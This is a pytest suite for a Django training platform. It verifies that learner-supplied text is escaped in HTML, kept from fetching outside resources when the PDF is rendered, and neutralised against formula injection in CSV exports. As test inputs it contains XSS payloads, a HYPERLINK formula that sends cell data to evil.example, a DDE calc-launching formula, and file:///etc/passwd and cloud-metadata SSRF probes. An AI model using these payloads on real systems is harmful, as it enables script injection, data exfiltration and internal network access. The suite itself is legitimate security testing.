"""Learner-controlled text is inert everywhere it is shown: pages, handler fragments, the PDF, CSVs."""
import csv
import io
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from elsx.certificates import numbers, render as pdf_render
from elsx.models import Certificate, LearnerProfile
from tests.cohort_helpers import cohort_xml, token_of
from tests.conftest import render
from tests.hostile.conftest import COURSE, STAFF, finish_course, json_call, raw_call

pytestmark = pytest.mark.django_db

# Script, event handlers, a javascript: URL, attribute and textarea break-outs, broken markup.
NAME = '<script>alert(1)</script>"><img src=x onerror=alert(2)></textarea><svg onload=alert(3)> <b <i'
AGENCY = "<a href=\"javascript:alert(4)\">Agency</a>' onmouseover='alert(5)"
REFLECTION = ("Our plan: </textarea><script>alert(6)</script><iframe src=javascript:alert(7)> "
              "<div style=\"background:url(javascript:alert(8))\">and more words</div>")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = "hostile"


class Inspector(HTMLParser):
    """Collects what the browser would act on: tags, attributes, script bodies."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "svg", "img", "object", "embed") and "alert" in str(attrs) + tag:
            self.problems.append(f"<{tag} {attrs}>")
        self._in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") and "alert" in value:
                self.problems.append(f"event handler {name}={value}")
            if name in ("href", "src", "action", "formaction", "xlink:href") and value.startswith("javascript:"):
                self.problems.append(f"{name}={value}")
            if name == "style" and "javascript:" in value:
                self.problems.append(f"style={value}")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.problems.append(f"script body {data[:60]}")


def assert_inert(html, shown=()):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.problems == [], inspector.problems
    for raw in ("<script>alert", "<img src=x", "<svg onload", "<iframe src=javascript"):
        assert raw not in html
    for text in shown:  # the value is on the page, as text: the checks above are not vacuous
        assert text in html, f"{text!r} not shown"


@pytest.fixture
def hostile(db, media, fake_pdf):
    finish_course(HOSTILE, NAME, "hostile@example.org", reflection=REFLECTION, agency=AGENCY, role="other")
    return HOSTILE


def test_topic_page_and_its_handler_fragments(make_block, hostile):
    block = make_block('<elsx_topic topic_id="vulnerable-populations"/>', hostile)
    status, payload, _raw, _headers = json_call(block, "save_reflection", {"text": REFLECTION + " again"})
    assert status == 200
    for fragment in ("status_html", "checklist_html", "saved_html"):
        assert_inert(payload[fragment])
    assert_inert(render(block), shown=["&lt;/textarea&gt;&lt;script&gt;alert(6)"])


def test_progress_page(make_block, hostile):
    block = make_block("<elsx_progress/>", hostile)
    assert_inert(render(block))
    assert_inert(json_call(block, "refresh", {})[1]["html"])


def test_certificate_block_prefill_claim_and_body(make_block, hostile):
    block = make_block("<elsx_certificate/>", hostile)
    assert_inert(render(block), shown=['value="&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;'])
    status, payload, raw, _headers = json_call(block, "claim", {"legal_name": NAME, "agency": AGENCY,
                                                                "role": "other"})
    assert status == 200, raw[:300]
    assert_inert(payload["html"])
    assert_inert(render(block), shown=["&lt;script&gt;alert(1)"])


def test_dashboard_grid_search_and_drill_down(make_block, hostile):
    staff = make_block(cohort_xml(), STAFF)
    assert_inert(render(staff), shown=["&lt;script&gt;alert(1)", "&lt;a href=&quot;javascript:alert(4)"])
    for search in ("<script>", '"><img src=x onerror=alert(2)>', "</textarea><svg", "<b <i"):
        status, payload, raw, _headers = json_call(staff, "grid", {"search": search})
        assert status == 200, raw[:300]
        assert payload["total"] >= 1  # the hostile learner matches: the row is in the fragment
        for fragment in ("grid_html", "pager_html", "status_text"):
            assert_inert(payload[fragment])
    status, payload, _raw, _headers = json_call(staff, "refresh", {"search": "svg onload"})
    for fragment in ("summary_html", "topics_html", "grid_html"):
        assert_inert(payload[fragment])
    status, payload, _raw, _headers = json_call(staff, "learner", {"learner_id": hostile})
    assert status == 200
    assert_inert(payload["html"], shown=["&lt;/textarea&gt;&lt;script&gt;alert(6)", "&lt;script&gt;alert(1)"])


def test_verification_pages_and_their_echoes(client, make_block, hostile):
    block = make_block("<elsx_certificate/>", hostile)
    assert json_call(block, "claim", {"legal_name": NAME, "agency": AGENCY, "role": "other"})[0] == 200
    number = numbers.display(Certificate.objects.get(learner_id=hostile).number)
    page = client.get(f"/elsx/verify/{number}")
    assert page.status_code == 200 and "default-src 'none'" in page["Content-Security-Policy"]
    assert_inert(page.content.decode(), shown=["&lt;script&gt;alert(1)"])
    record = client.get(f"/elsx/verify/{number}.json")
    assert record["Content-Type"].startswith("application/json") and record.json()["name"] == NAME
    # What a visitor types is echoed back on the not-found page: escaped too.
    for typed in (NAME[:60], AGENCY[:60], "javascript:alert(9)"):
        for url in (f"/elsx/verify/?number={quote(typed)}", f"/elsx/verify/{quote(typed, safe='')}"):
            response = client.get(url)
            assert response.status_code == 404
            assert_inert(response.content.decode())


def test_certificate_pdf_is_inert_and_fetches_nothing_outside_the_package(make_block, db, media, monkeypatch):
    """A real WeasyPrint render of hostile text: every fetch is one of the package's own assets."""
    from pypdf import PdfReader
    finish_course(HOSTILE, NAME, "hostile@example.org")
    monkeypatch.setattr(pdf_render, "_renderer", None)  # a fresh renderer: its fonts load through the fetcher
    fetcher = pdf_render.renderer().fetcher
    block = make_block("<elsx_certificate/>", HOSTILE)
    name = '<img src="file:///etc/passwd"><link rel=stylesheet href="https://evil.example/x.css">Ann'
    agency = '<iframe src="http://169.254.169.254/latest/meta-data/"></iframe>Sheriff'
    status, _payload, raw, _headers = json_call(block, "claim", {"legal_name": name, "agency": agency,
                                                                 "role": "other"})
    assert status == 200, raw[:300]
    requested = list(fetcher.requests)
    assert requested, "the renderer fetched nothing at all: the fetcher is not the one in use"
    assert fetcher.refused() == []
    assert all(url.startswith(pdf_render.ASSET_ORIGIN) and served for url, served in requested), requested
    cert = Certificate.objects.get(learner_id=HOSTILE)
    text = " ".join(page.extract_text() for page in PdfReader(media / cert.pdf_path).pages)
    assert "file:///etc/passwd" in text and "169.254.169.254" in text  # printed as text, not loaded


def csv_cells(body):
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("kind", ["roster", "credit"])
def test_every_csv_neutralises_formulas(make_block, hostile, kind):
    formulas = [FORMULA_NAME, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
    for index, formula in enumerate(formulas):
        finish_course(f"formula-{index}", formula, f"f{index}@example.org", agency=formula, role="other",
                      legal_name=formula, state_training_id=formula[:60], state=formula[:60])
        if kind == "credit":
            from elsx.certificates import api
            LearnerProfile.objects.filter(learner_id=f"formula-{index}").update(
                claimed_at=LearnerProfile.objects.get(learner_id=HOSTILE).last_activity_at)
            api.issue(COURSE, f"formula-{index}")
    staff = make_block(cohort_xml(), STAFF)
    exported = json_call(staff, "export", {"kind": kind})[1]
    status, _payload, body, headers = raw_call(staff, "download", method="GET",
                                               query=f"token={token_of(exported['url'])}")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    cells = csv_cells(body)
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    assert "'" + FORMULA_NAME in cells  # neutralised, not dropped


# --- formula neutralisation: the first visible character, after NFKC ---------------

NEUTRALISED = {
    "full-width =": "\uff1d1+1", "full-width +": "\uff0b1", "full-width -": "\uff0d1", "full-width @": "\uff20SUM(A1)",
    "small =": "\ufe661+1", "ZWSP then =": "\u200b=1+1", "BOM then =": "\ufeff=1+1",
    "Mongolian vowel separator then =": "\u180e=1+1", "space then =": " =1+1", "NBSP then =": "\u00a0=1+1",
    "ideographic space then =": "\u3000=1+1", "spaces and ZWJ then @": "  \u200d@SUM(A1)", "LF then =": "\n=1",
    "tab": "\tcmd", "CR": "\rcmd", "plain =": "=1+1", "Hangul filler then =": "\u3164=1",
}
KEPT = ["Smith-Jones", "O'Brien", "alicia@example.org", "Ａｌｉｃｅ", "\u200bAlice", " Alice", "", "11.0",
        "Policía Municipal", "王小明"]


@pytest.mark.parametrize("name", list(NEUTRALISED))
def test_formula_starts_hidden_behind_invisibles_or_full_width_are_neutralised(name):
    from elsx.cohort.exports import neutralise
    value = NEUTRALISED[name]
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", KEPT)
def test_ordinary_text_is_left_as_it_is(value):
    from elsx.cohort.exports import neutralise
    assert neutralise(value) == value


def test_the_header_row_is_neutralised_too():
    from elsx.cohort.exports import csv_lines
    lines = list(csv_lines(["=Name", "\uff20Email"], [["a", "b"]]))
    assert lines[0].lstrip("\ufeff").startswith("'=Name,'\uff20Email")
